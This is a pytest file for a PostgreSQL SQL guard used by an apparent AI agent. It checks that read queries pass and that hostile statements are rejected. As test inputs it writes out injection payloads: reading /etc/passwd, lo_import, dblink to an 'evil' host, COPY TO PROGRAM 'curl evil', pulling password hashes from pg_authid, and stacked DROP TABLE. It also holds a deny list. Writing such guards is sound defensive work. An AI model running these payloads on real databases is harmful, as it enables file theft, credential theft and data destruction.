"""Layer 1 of the SQL guard in the postgres dialect: what it adds to the SQLite rules (no server needed)."""

from __future__ import annotations


import pytest

from agent.sources.errors import SQLRejected
from agent.sources.engine_denials import DENIALS, SQLITE_DENIED_NAMES
from agent.sources.sql_guard import check_sql
from tests.agent.sources.test_sql_guard import load_payloads, load_spider_subset


def rejection(sql: str) -> str:
    with pytest.raises(SQLRejected) as info:
        check_sql(sql, dialect="postgres")
    return info.value.reason


@pytest.mark.parametrize("sql", [
    "SELECT l.launch_date::date, count(*) FROM launches l GROUP BY 1",
    "SELECT DISTINCT ON (vehicle_id) vehicle_id, launch_date FROM launches ORDER BY vehicle_id, launch_date DESC",
    "SELECT name FROM launch_vehicles WHERE name ILIKE '%falcon%'",
    "SELECT g FROM generate_series(1, 10) AS g",
    "SELECT to_char(launch_date::date, 'YYYY') AS y, count(*) FROM launches GROUP BY y",
    "SELECT rank() OVER (ORDER BY mass_kg DESC) FROM payloads",
    "SELECT '{\"a\": 1}'::jsonb ->> 'a'",
    "SELECT string_agg(name, ', ' ORDER BY name) FROM countries",
    "SELECT * FROM lo_table",  # a table that merely starts like a denied function
    "SELECT 100 * 2 % 7, '50%' LIKE '5%'",
])
def test_accepts_postgres_read_queries(sql: str) -> None:
    assert check_sql(sql, dialect="postgres") == sql


def test_accepts_the_spider_subset_in_the_postgres_dialect() -> None:
    for sql, _ in load_spider_subset():
        check_sql(sql, dialect="postgres")


@pytest.mark.parametrize(("sql", "reason"), [
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file is not allowed: it reaches outside"),
    ("SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", "reaches outside"),
    ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir is not allowed"),
    ("SELECT pg_stat_file('postgresql.conf')", "reaches outside"),
    ("SELECT lo_import('/etc/passwd')", "lo_import is not allowed"),
    ("SELECT lo_export(16400, '/tmp/x')", "lo_export is not allowed"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "dblink is not allowed"),
    ("SELECT dblink_exec('host=evil', 'DROP TABLE x')", "dblink_exec is not allowed"),
    ("SELECT query_to_xml('DELETE FROM launches RETURNING 1', true, true, '')", "SQL text the guard cannot check"),
    ("SELECT ts_stat('SELECT to_tsvector(name) FROM countries')", "SQL text the guard cannot check"),
    ("SELECT set_config('statement_timeout', '0', false)", "set_config is not allowed"),
    ("SELECT pg_sleep(60)", "pg_sleep is not allowed: it only waits"),
    ("SELECT pg_sleep_for('1 minute')", "only waits"),
    ("SELECT pg_advisory_lock(1)", "takes locks"),
    ("SELECT pg_terminate_backend(pid) FROM generate_series(1, 2) AS pid", "pg_terminate_backend"),
    ("SELECT nextval('launches_id_seq')", "nextval is not allowed"),
    ("SELECT pg_notify('c', 'x')", "pg_notify"),
    ("SELECT \"PG_READ_FILE\"('x')", "not allowed"),
    ("SELECT query FROM pg_stat_activity", "table pg_stat_activity is not allowed"),
    # Issue 39, item 9: the function behind the view listed the other pooled sessions.
    ("SELECT * FROM pg_stat_get_activity(NULL)", "pg_stat_get_activity is not allowed"),
    ("SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s", "pg_stat_get_"),
    ("SELECT rolpassword FROM pg_catalog.pg_authid", "table pg_authid is not allowed"),
    ("SELECT * FROM pg_settings", "table pg_settings is not allowed"),
    ("COPY launches TO PROGRAM 'curl evil'", "found COPY"),
    ("COPY launches FROM '/etc/passwd'", "found COPY"),
    ("COPY (SELECT 1) TO '/tmp/x'", "found COPY"),
    ("SELECT * FROM launches FOR UPDATE", "row lock"),
    ("SELECT * INTO copy FROM launches", "SELECT ... INTO is not allowed"),
    ("WITH d AS (DELETE FROM launches RETURNING *) SELECT * FROM d", "DELETE inside the query"),
    ("SET statement_timeout = 0", "found SET"),
    ("SET ROLE postgres", "found SET"),
    ("RESET ALL", "found RESET"),
    ("DO $$ BEGIN PERFORM 1; END $$", "found DO"),
    ("CALL refresh()", "found CALL"),
    ("LISTEN x", "found LISTEN"),
    ("PREPARE p AS SELECT 1", "found PREPARE"),
    ("VACUUM launches", "found VACUUM"),
    ("CREATE TABLE t (a int)", "found CREATE"),
    ("ALTER SYSTEM SET fsync = off", "found ALTER"),
    ("GRANT ALL ON launches TO public", "found GRANT"),
    ("SELECT 1; DROP TABLE launches", "only one statement"),
    ("BEGIN READ WRITE", "found BEGIN"),
])
def test_rejects_postgres_payloads_with_a_reason(sql: str, reason: str) -> None:
    assert reason in rejection(sql)


def test_every_corpus_payload_is_rejected_unless_it_names_a_sqlite_only_function() -> None:
    """The SQLite corpus holds writes, DDL and stacked statements (rejected in both dialects) and
    SQLite-only functions such as readfile, which PostgreSQL does not have."""
    for payload in load_payloads():
        try:
            check_sql(payload, dialect="postgres")
        except SQLRejected:
            continue
        lowered = payload.lower()
        assert any(name in lowered for name in SQLITE_DENIED_NAMES) or "pragma_" in lowered, payload


def test_denied_prefixes_apply_to_functions_not_to_tables() -> None:
    postgres = DENIALS["postgres"]
    assert postgres.function("lo_import") and postgres.table("lo_import") is None
    assert postgres.table("pg_authid") and postgres.table("PG_AUTHID")
    assert postgres.function("readfile") is None  # a SQLite shell function, absent from PostgreSQL
    assert DENIALS["sqlite"].function("pg_read_file") is None  # the SQLite rules are unchanged
